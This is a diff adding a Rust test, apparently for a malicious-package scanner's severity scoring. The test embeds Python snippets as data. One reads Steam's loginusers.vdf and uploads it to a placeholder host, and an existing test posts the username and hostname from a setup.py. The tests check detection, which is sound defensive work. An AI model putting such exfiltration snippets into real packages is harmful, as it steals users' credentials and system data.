@@ -374,6 +374,14 @@ mod tests {
     }
 
     #[test]
+    fn joined_store_paths_and_dict_comprehensions_carry_what_they_read() {
+        let steam = "import os, requests\nsteam = r'C:\\Program Files (x86)\\Steam'\nfiles = [os.path.join(steam, 'config', 'loginusers.vdf')]\nrequests.post('https://x.invalid/s', files={os.path.basename(p): open(p, 'rb') for p in files})\n";
+        assert!(max_severity("p-1/pkg/__init__.py", steam, "WH200") >= 0.85);
+        let config = "import os, requests\nfiles = [os.path.join('conf', 'app.ini')]\nrequests.post('https://x.invalid/s', files={os.path.basename(p): open(p, 'rb') for p in files})\n";
+        assert!(max_severity("p-1/pkg/__init__.py", config, "WH200") < 0.5);
+    }
+
+    #[test]
     fn data_a_branch_gathered_still_flows_after_another_branch_assigns_clean_data() {
         let code = "import os, platform, requests\nif platform.system() == 'Linux':\n    data = {'user': os.getlogin(), 'host': os.uname()}\nelse:\n    data = {'Error': 'unsupported'}\nrequests.post('https://c.example.invalid/', data=data)\n";
         assert!(max_severity("p-1/setup.py", code, "WH200") >= 0.5);
